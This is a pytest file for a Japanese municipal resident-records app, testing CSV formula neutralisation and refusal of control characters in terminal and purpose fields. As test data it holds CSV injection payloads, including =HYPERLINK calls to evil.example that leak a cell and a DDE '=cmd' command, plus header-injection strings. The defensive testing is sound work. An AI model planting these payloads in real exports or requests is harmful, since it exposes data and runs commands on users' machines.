"""CSV exports neutralise formula cells in one place; text from requests (terminal, purpose) is validated.

docs/security.md "CSV exports" and "Text from requests" (docs/security.md).
"""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
import time_machine
from django_tenants.utils import schema_context

from common import audit
from common.csv_export import neutralise_cell, restore_cell
from common.errors import InvalidPurpose
from common.models import AuditEvent
from common.serializers import AUDIT_CSV_HEADER
from resident_records import csv_io
from resident_records.models import Resident
from tenants.models import Person
from tests.conftest import HOSTS, make_client
from tests.resident_records.factories import move_in_family, person
from tests.support.access import assert_error_shape, audit_position, audit_since

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+2", "+81-3", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil.example","押す")']


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_written_as_text(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", ["山田 太郎", "1-2-3", "2026-04-01", "", "'quoted", "'", "a=b", "''=x", "'=x"])
def test_other_cells_round_trip_unchanged(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value
    if not value.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert neutralise_cell(value) == value


def test_numbers_and_dates_are_left_as_they_are() -> None:
    for value in (-1, 3.5, date(2026, 4, 1), None):
        assert neutralise_cell(value) == value


def _rows(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_audit_csv_neutralises_a_purpose_typed_as_a_formula(client_for: Any) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    with schema_context("nakatosa"):
        audit.record(actor=None, action="resident.view", purpose=payload, personal_data=True)
    response = client_for("auditor", "nakatosa").get("/api/v1/audit-events/", {"format": "csv"})
    purposes = [row[AUDIT_CSV_HEADER.index("purpose")] for row in _rows(response)[1:]]
    assert "'" + payload in purposes
    assert payload not in purposes


def test_the_resident_export_neutralises_and_its_import_restores(db: Any) -> None:
    clerk = Person.objects.get(username="tanaka")
    address = "=cmd|' /C calc'!A0 高知県高岡郡中土佐町久礼 1"
    with time_machine.travel(date(2026, 11, 27), tick=False), schema_context("nakatosa"):
        _, (head,) = move_in_family(clerk, members=[person("数式", "太郎", "スウシキ", "タロウ")], address=address)
        out = io.StringIO(newline="")
        csv_io.write_csv(out, csv_io.export_rows(None))
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        header, ours = rows[0], [r for r in rows[1:] if head.atena_number in r]
        assert ours[0][header.index("住所")] == "'" + address
        data = io.StringIO(newline="")
        csv.writer(data).writerows([header, *ours])
    with time_machine.travel(date(2026, 11, 27), tick=False), schema_context("shimanto"):
        report = csv_io.import_csv(actor=clerk, data=data.getvalue().encode("utf-8-sig"), purpose="移行の検証")
        assert report.errors == []
        assert report.result is not None
        moved = Resident.objects.get(atena_number=report.result.first_atena_number)
        assert moved.address == address


@pytest.mark.parametrize(
    "terminal",
    ["窓口\x1b[31m1", "a\nX-Injected: 1", "x" * 101, "\u202eevil", "\udcff"],
    ids=["escape", "newline", "too-long", "bidi-override", "surrogate"],
)
def test_an_unprintable_terminal_name_is_refused(client_for: Any, terminal: str) -> None:
    position = audit_position("nakatosa")
    response = client_for("auditor", "nakatosa").get(
        "/api/v1/audit-events/", HTTP_X_KYODO_TERMINAL=terminal.encode("utf-8", "surrogateescape").decode("latin-1")
    )
    assert_error_shape(response, 400, "invalid_request_header")
    assert audit_since("nakatosa", position) == []


def test_a_terminal_name_in_utf8_reaches_the_audit_row(client_for: Any) -> None:
    position = audit_position("nakatosa")
    client = client_for("auditor", "nakatosa")
    response = client.get("/api/v1/audit-events/", HTTP_X_KYODO_TERMINAL="窓口1".encode().decode("latin-1"))
    assert response.status_code == 200
    assert [e.terminal for e in audit_since("nakatosa", position)] == ["窓口1"]


@pytest.mark.parametrize("purpose", ["転入届\n受付", "確\t認", "x" * 201, "照会\u200b"])
def test_an_unprintable_purpose_is_refused_before_anything_is_read(purpose: str) -> None:
    with schema_context("nakatosa"):
        before = AuditEvent.objects.count()
        with pytest.raises(InvalidPurpose):
            audit.record(actor=None, action="resident.view", purpose=purpose, personal_data=True)
        assert AuditEvent.objects.count() == before


def test_the_api_refuses_a_purpose_with_control_characters(client_for: Any) -> None:
    with schema_context("nakatosa"):
        _, (resident,) = move_in_family(Person.objects.get(username="tanaka"), members=[person()])
    position = audit_position("nakatosa")
    response = client_for("tanaka", "nakatosa").get(
        f"/api/v1/resident_records/residents/{resident.atena_number}/", {"purpose": "照会\r\n=1+1"}
    )
    assert_error_shape(response, 400, "validation_error")
    assert audit_since("nakatosa", position) == []


def test_a_browser_request_with_a_bad_terminal_name_changes_nothing() -> None:
    client = make_client(HOSTS["nakatosa"], Person.objects.get(username="tanaka"))
    position = audit_position("nakatosa")
    response = client.post("/accounts/logout/", HTTP_X_KYODO_TERMINAL="\x00")
    assert_error_shape(response, 400, "invalid_request_header")
    assert audit_since("nakatosa", position) == []
    assert client.get("/").status_code == 200, "the refused request did not log the person out"
